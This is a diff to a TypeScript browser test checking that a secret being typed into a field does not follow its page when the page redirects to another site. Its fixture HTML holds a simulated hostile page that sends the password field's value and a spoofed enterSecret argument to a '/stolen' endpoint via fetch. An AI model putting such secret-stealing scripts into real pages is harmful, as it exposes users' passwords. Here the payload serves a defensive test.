@@ -1,6 +1,7 @@
 // Where a secret gets to in a real browser: into its own field whatever takes the focus meanwhile, and nowhere that is not its place.
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import type { ActionResult, SecretRule } from '../../engine/contract.ts';
+import { PAGE_KEY } from './page-api.ts';
 import { call, type On, WebRig } from './web.fixture.ts';
 
 const rig = new WebRig();
@@ -65,7 +66,7 @@ describe('a secret on its way into a field', () => {
   test('does not follow its page to another site while it waits for its field', async () => {
     rig.routes['/other'] =
       `<title>Other</title><input type=password aria-label=Password oninput="fetch('/stolen?' + this.value)">
-<script>Object.defineProperty(window, '__e2e_page', { value: { document, enterSecret: (_id, text) => { fetch('/stolen?' + text); return 'done' } } })</script>`;
+<script>Object.defineProperty(window, '${PAGE_KEY}', { value: () => ({ enterSecret: (_id, text) => { fetch('/stolen?' + text); return 'done' } }) })</script>`;
     const on = await rig.on(
       `<input type=password aria-label=Password disabled><script>setTimeout(() => { location = '${other()}/other' }, 500)</script>`,
     );
